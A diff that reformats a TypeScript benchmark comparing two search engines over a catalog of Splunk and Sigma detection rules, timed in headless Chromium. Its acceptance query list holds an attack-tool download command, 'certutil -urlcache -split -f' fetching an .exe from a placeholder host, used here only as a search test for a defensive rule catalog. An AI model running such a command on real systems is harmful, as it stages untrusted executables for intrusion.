@@ -53,19 +53,39 @@ const started = performance.now()
 const indexed = indexCatalog(catalog)
 const json = JSON.stringify(await buildSearchIndex(indexed))
 const idsJson = JSON.stringify(buildSearchIds(indexed))
-log(`machine load average ${loadavg().map((l) => l.toFixed(1)).join(" ")} (1, 5, 15 min; timings are wall-clock; a busy machine inflates them)`)
-log(`corpus: ${roots.join(",")}: ${catalog.detections.length} rules; index built in ${Math.round(performance.now() - started)} ms`)
-log(`shipped index (/search-index.json, the packed records): ${kib(json.length)} raw, ${kib(gzipSync(json, { level: 9 }).length)} gzipped`)
-log(`ids (/search-ids.json, fetched only by a query that can match an id): ${kib(idsJson.length)} raw, ${kib(gzipSync(idsJson, { level: 9 }).length)} gzipped`)
+log(
+  `machine load average ${loadavg()
+    .map((l) => l.toFixed(1))
+    .join(" ")} (1, 5, 15 min; timings are wall-clock; a busy machine inflates them)`,
+)
+log(
+  `corpus: ${roots.join(",")}: ${catalog.detections.length} rules; index built in ${Math.round(performance.now() - started)} ms`,
+)
+log(
+  `shipped index (/search-index.json, the packed records): ${kib(json.length)} raw, ${kib(gzipSync(json, { level: 9 }).length)} gzipped`,
+)
+log(
+  `ids (/search-ids.json, fetched only by a query that can match an id): ${kib(idsJson.length)} raw, ${kib(gzipSync(idsJson, { level: 9 }).length)} gzipped`,
+)
 
 // The previous engine, from git, for this run only.
 const OLD = ".atlas/bench-previous-search"
 rmSync(OLD, { recursive: true, force: true })
 mkdirSync(join(OLD, "lib/search"), { recursive: true })
-const oldFiles = execFileSync("git", ["ls-tree", "--name-only", PREVIOUS_ENGINE, "lib/search/"], { encoding: "utf8" }).split("\n").filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts"))
-for (const f of oldFiles) writeFileSync(join(OLD, f), execFileSync("git", ["show", `${PREVIOUS_ENGINE}:${f}`], { encoding: "utf8" }))
+const oldFiles = execFileSync("git", ["ls-tree", "--name-only", PREVIOUS_ENGINE, "lib/search/"], { encoding: "utf8" })
+  .split("\n")
+  .filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts"))
+for (const f of oldFiles)
+  writeFileSync(join(OLD, f), execFileSync("git", ["show", `${PREVIOUS_ENGINE}:${f}`], { encoding: "utf8" }))
 
-const ACCEPTANCE = ["powershel", "mimikats", "kerberost", "certutil -urlcache -split -f http://x.example/a.exe a.exe", "wmic", "T1047"]
+const ACCEPTANCE = [
+  "powershel",
+  "mimikats",
+  "kerberost",
+  "certutil -urlcache -split -f http://x.example/a.exe a.exe",
+  "wmic",
+  "T1047",
+]
 
 const bundle = await build({
   stdin: {
@@ -122,7 +142,13 @@ const bundle = await build({
 const js = bundle.outputFiles[0]?.text ?? ""
 
 const executablePath = process.env.CHROMIUM_PATH ?? (existsSync("/usr/bin/chromium") ? "/usr/bin/chromium" : undefined)
-const args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"]
+const args = [
+  "--no-sandbox",
+  "--disable-gpu",
+  "--disable-background-networking",
+  "--disable-component-update",
+  "--no-first-run",
+]
 const browser = await chromium.launch({ executablePath, args })
 try {
   // A real local HTTP server (gzip off, as from disk): Playwright's request interception would
@@ -130,7 +156,13 @@ try {
   const server = createServer((req, res) => {
     const path = new URL(req.url ?? "/", "http://x").pathname
     const [type, body] =
-      path === "/search-index.json" ? ["application/json", json] : path === "/search-ids.json" ? ["application/json", idsJson] : path === "/bench.js" ? ["text/javascript", js] : ["text/html", '<!doctype html><script src="/bench.js"></script>']
+      path === "/search-index.json"
+        ? ["application/json", json]
+        : path === "/search-ids.json"
+          ? ["application/json", idsJson]
+          : path === "/bench.js"
+            ? ["text/javascript", js]
+            : ["text/html", '<!doctype html><script src="/bench.js"></script>']
     res.writeHead(200, { "content-type": type })
     res.end(body)
   })
@@ -138,21 +170,57 @@ try {
   const page = await browser.newPage()
   await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
   type Top = { q: string; total: number; corrected?: string; hits: string[]; oldTotal: number }
-  type Run = { fetchParse: number; oldLoadMs: number; newLoadMs: number; cachedLoadMs: number; savedBytes: number; warmUpMs: number; times: { old: number[]; cur: number[] }; top: Top[] }
-  const r = await page.evaluate(([rounds, acceptance]) => (globalThis as unknown as { bench: (n: number, a: string[]) => Promise<Run> }).bench(rounds, acceptance), [ROUNDS, ACCEPTANCE] as const)
+  type Run = {
+    fetchParse: number
+    oldLoadMs: number
+    newLoadMs: number
+    cachedLoadMs: number
+    savedBytes: number
+    warmUpMs: number
+    times: { old: number[]; cur: number[] }
+    top: Top[]
+  }
+  const r = await page.evaluate(
+    ([rounds, acceptance]) =>
+      (globalThis as unknown as { bench: (n: number, a: string[]) => Promise<Run> }).bench(rounds, acceptance),
+    [ROUNDS, ACCEPTANCE] as const,
+  )
   server.close()
-  log(`load in Chromium (fetch + JSON parse ${ms(r.fetchParse)} apart): previous engine ${ms(r.oldLoadMs)}; FlexSearch engine ${ms(r.newLoadMs)} built, ${ms(r.cachedLoadMs)} from the saved term index (${kib(r.savedBytes)} in IndexedDB, never shipped); warm-up ${ms(r.warmUpMs)}`)
+  log(
+    `load in Chromium (fetch + JSON parse ${ms(r.fetchParse)} apart): previous engine ${ms(r.oldLoadMs)}; FlexSearch engine ${ms(r.newLoadMs)} built, ${ms(r.cachedLoadMs)} from the saved term index (${kib(r.savedBytes)} in IndexedDB, never shipped); warm-up ${ms(r.warmUpMs)}`,
+  )
   for (const [label, xs] of [
     ["previous engine", r.times.old],
     ["FlexSearch engine", r.times.cur],
   ] as const) {
-    const medians = BENCH_QUERIES.map((_, i) => pct(xs.filter((_, j) => j % BENCH_QUERIES.length === i), 50))
-    log(`${label}: ${BENCH_QUERIES.length} queries × ${ROUNDS} rounds: p50 ${ms(pct(xs, 50))}, p95 ${ms(pct(xs, 95))}, max ${ms(pct(xs, 100))}; median per query: p50 ${ms(pct(medians, 50))}, p95 ${ms(pct(medians, 95))}`)
+    const medians = BENCH_QUERIES.map((_, i) =>
+      pct(
+        xs.filter((_, j) => j % BENCH_QUERIES.length === i),
+        50,
+      ),
+    )
+    log(
+      `${label}: ${BENCH_QUERIES.length} queries × ${ROUNDS} rounds: p50 ${ms(pct(xs, 50))}, p95 ${ms(pct(xs, 95))}, max ${ms(pct(xs, 100))}; median per query: p50 ${ms(pct(medians, 50))}, p95 ${ms(pct(medians, 95))}`,
+    )
   }
-  const cur = BENCH_QUERIES.map((q, i) => ({ q, median: pct(r.times.cur.filter((_, j) => j % BENCH_QUERIES.length === i), 50) }))
-  log(`slowest (FlexSearch engine, median): ${cur.sort((a, b) => b.median - a.median).slice(0, 5).map((x) => `${x.q} ${ms(x.median)}`).join(", ")}`)
+  const cur = BENCH_QUERIES.map((q, i) => ({
+    q,
+    median: pct(
+      r.times.cur.filter((_, j) => j % BENCH_QUERIES.length === i),
+      50,
+    ),
+  }))
+  log(
+    `slowest (FlexSearch engine, median): ${cur
+      .sort((a, b) => b.median - a.median)
+      .slice(0, 5)
+      .map((x) => `${x.q} ${ms(x.median)}`)
+      .join(", ")}`,
+  )
   for (const t of r.top) {
-    log(`"${t.q}": ${t.total} rules${t.corrected ? ` (showing results for "${t.corrected}")` : ""}, previous engine ${t.oldTotal}; top 5: ${t.hits.slice(0, 5).join(" | ")}`)
+    log(
+      `"${t.q}": ${t.total} rules${t.corrected ? ` (showing results for "${t.corrected}")` : ""}, previous engine ${t.oldTotal}; top 5: ${t.hits.slice(0, 5).join(" | ")}`,
+    )
   }
   if (process.argv.includes("--no-palette")) log("palette timings skipped (--no-palette)")
   else await pagePalette(browser)
@@ -168,7 +236,9 @@ try {
 async function pagePalette(b: Browser): Promise<void> {
   const shipped = existsSync("out/search-index.json") ? readFileSync("out/search-index.json", "utf8") : ""
   if (shipped !== json) {
-    log(`palette timings skipped: out/ does not hold this catalog's build (CATALOG_CONTENT=${roots.join(",")} npm run build first)`)
+    log(
+      `palette timings skipped: out/ does not hold this catalog's build (CATALOG_CONTENT=${roots.join(",")} npm run build first)`,
+    )
     return
   }
   // A free port, then the site's own static server on it.
@@ -176,7 +246,9 @@ async function pagePalette(b: Browser): Promise<void> {
   await new Promise<void>((ok) => probe.listen(0, "127.0.0.1", ok))
   const port = (probe.address() as AddressInfo).port
   await new Promise((ok) => probe.close(ok))
-  const server = spawn(process.execPath, ["scripts/static-server.mjs", "out", String(port)], { stdio: ["ignore", "pipe", "inherit"] })
+  const server = spawn(process.execPath, ["scripts/static-server.mjs", "out", String(port)], {
+    stdio: ["ignore", "pipe", "inherit"],
+  })
   try {
     await new Promise<void>((ok, fail) => {
       server.stdout.once("data", () => ok())
@@ -189,7 +261,10 @@ async function pagePalette(b: Browser): Promise<void> {
         const w = window as unknown as { slashAt?: number; firstAt?: number }
         window.addEventListener("keydown", (e) => e.key === "/" && (w.slashAt ??= performance.now()), { capture: true })
         const list = document.getElementById("atlas-search-list")
-        if (list) new MutationObserver(() => list.querySelector('[role="option"]') && (w.firstAt ??= performance.now())).observe(list, { childList: true, subtree: true })
+        if (list)
+          new MutationObserver(
+            () => list.querySelector('[role="option"]') && (w.firstAt ??= performance.now()),
+          ).observe(list, { childList: true, subtree: true })
       })
       await p.keyboard.press("/")
       await p.keyboard.type("winrs")
@@ -201,14 +276,23 @@ async function pagePalette(b: Browser): Promise<void> {
     }
     const readyAfterLoad = (p: import("@playwright/test").Page) =>
       p.evaluate(async () => {
-        while (performance.getEntriesByName("atlas-search-ready").length === 0) await new Promise((ok) => setTimeout(ok, 20))
+        while (performance.getEntriesByName("atlas-search-ready").length === 0)
+          await new Promise((ok) => setTimeout(ok, 20))
         const mark = performance.getEntriesByName("atlas-search-ready")[0] as PerformanceMark
         const nav = performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming
-        return { afterLoad: mark.startTime - nav.loadEventEnd, worker: (mark.detail as { workerMs: number; cached: boolean }).workerMs, cached: (mark.detail as { cached: boolean }).cached }
+        return {
+          afterLoad: mark.startTime - nav.loadEventEnd,
+          worker: (mark.detail as { workerMs: number; cached: boolean }).workerMs,
+          cached: (mark.detail as { cached: boolean }).cached,
+        }
       })
     /** Waits until `ms` after the page's load event. */
     const untilAfterLoad = async (p: import("@playwright/test").Page, wait: number) => {
-      const since = await p.evaluate(() => performance.now() - (performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming).loadEventEnd)
+      const since = await p.evaluate(
+        () =>
+          performance.now() -
+          (performance.getEntriesByType("navigation")[0] as PerformanceNavigationTiming).loadEventEnd,
+      )
       await p.waitForTimeout(Math.max(0, wait - since))
     }
     for (const path of ["/", firstRulePage()].filter((x): x is string => x !== undefined)) {
@@ -281,5 +365,12 @@ async function pagePalette(b: Browser): Promise<void> {
 }
 
 function firstRulePage(): string | undefined {
-  return ["splunk", "sigma"].flatMap((f) => (existsSync(`out/rules/${f}`) ? readdirSync(`out/rules/${f}`).sort().slice(0, 1).map((slug) => `/rules/${f}/${slug}/`) : []))[0]
+  return ["splunk", "sigma"].flatMap((f) =>
+    existsSync(`out/rules/${f}`)
+      ? readdirSync(`out/rules/${f}`)
+          .sort()
+          .slice(0, 1)
+          .map((slug) => `/rules/${f}/${slug}/`)
+      : [],
+  )[0]
 }
